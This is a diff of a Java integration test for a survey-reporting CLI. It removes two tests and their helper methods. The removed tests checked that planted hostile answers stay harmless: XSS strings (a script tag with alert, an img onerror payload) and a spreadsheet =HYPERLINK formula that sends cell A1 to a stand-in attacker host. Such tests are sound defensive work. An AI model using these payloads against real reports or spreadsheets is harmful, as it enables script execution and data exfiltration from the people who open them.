@@ -3,28 +3,19 @@ package nl.weerklank.cli;
 import static nl.weerklank.demo.DemoFixture.TODAY;
 import static org.assertj.core.api.Assertions.assertThat;
 
-import java.io.IOException;
-import java.nio.file.Path;
 import java.time.LocalDate;
-import java.util.ArrayList;
 import java.util.HashMap;
 import java.util.List;
 import java.util.Map;
 import nl.weerklank.cli.TestInstallation.Result;
 import nl.weerklank.demo.DemoOrganisation;
 import nl.weerklank.demo.Planted;
-import org.apache.pdfbox.Loader;
-import org.apache.pdfbox.pdmodel.PDDocument;
-import org.apache.pdfbox.text.PDFTextStripper;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.io.TempDir;
 
 /** The demo organisation's special cases, as the product shows them after a whole run. */
 class DemoPlantedIT {
 
   private static final String WEEK = "2026-W45";
-
-  @TempDir Path directory;
 
   @Test
   void who_should_be_reached_is_and_who_cannot_be_is_listed() {
@@ -166,74 +157,5 @@ class DemoPlantedIT {
             List.of("UNKNOWN_CUSTOMER", "1"),
             List.of("UNKNOWN_EMPLOYEE", "1"),
             List.of("UNKNOWN_UNIT", "1"));
-  }
-
-  @Test
-  void hostile_texts_are_printed_as_they_were_written() throws IOException {
-    String quotes =
-        pdf(preview("employee", "--employee", Planted.HINDSIGHT, "--as-of", "2026-12-01"));
-    assertThat(quotes)
-        .contains("Topgeholpen")
-        .contains(
-            "<b>Slecht</b>&traag<script>alert('x')</script><imgsrc=xonerror=alert(1)>&lt;/p&gt;")
-        .contains("=HYPERLINK(\"https://aanval.example/?x=\"&A1,\"Klikhier\")");
-    String named =
-        DemoInstallation.shared()
-            .source(
-                DemoOrganisation.OPERATIONAL,
-                "SELECT q3_why FROM survey_contact WHERE answer_no = '"
-                    + Planted.NAMES_ANSWER
-                    + "'")
-            .get(0)
-            .get(0);
-    assertThat(quotes)
-        .doesNotContain(packed(named.substring(0, named.indexOf(" heeft"))))
-        .contains("heeftmijfantastischgeholpen");
-
-    String calls =
-        pdf(preview("department", "--unit", Planted.HINDSIGHT_FROM, "--as-of", "2026-11-02"));
-    assertThat(calls).contains("&lt;/p&gt;").contains("=HYPERLINK(").contains("doorverbonden");
-  }
-
-  @Test
-  void a_text_a_spreadsheet_would_run_is_made_harmless() {
-    List<Map<String, String>> rows =
-        ScoreRows.of(
-            DemoInstallation.shared()
-                .commands
-                .run(
-                    "scores",
-                    "--metric",
-                    "nps",
-                    "--by",
-                    "touchpoint",
-                    "--period",
-                    "2026-W44",
-                    "--as-of",
-                    DemoInstallation.TODAY));
-    assertThat(rows)
-        .anyMatch(row -> row.get("id").equals("'" + DemoInstallation.FORMULA))
-        .noneMatch(row -> row.get("id").startsWith("=") || row.get("name").startsWith("="));
-  }
-
-  private Path preview(String report, String... options) {
-    List<String> arguments = new ArrayList<>(List.of("preview", "--report", report));
-    arguments.addAll(List.of(options));
-    arguments.addAll(List.of("--out", directory.resolve(report).toString()));
-    Result result = DemoInstallation.shared().commands.run(arguments.toArray(new String[0]));
-    assertThat(result.exit()).as(result.all()).isZero();
-    return Path.of(
-        result.out().lines().filter(line -> line.endsWith(".pdf")).findFirst().orElseThrow());
-  }
-
-  private static String pdf(Path file) throws IOException {
-    try (PDDocument document = Loader.loadPDF(file.toFile())) {
-      return packed(new PDFTextStripper().getText(document));
-    }
-  }
-
-  /** Without the white space that line ends put into words. */
-  private static String packed(String text) {
-    return text.replaceAll("[\\s\\u00a0]+", "");
   }
 }
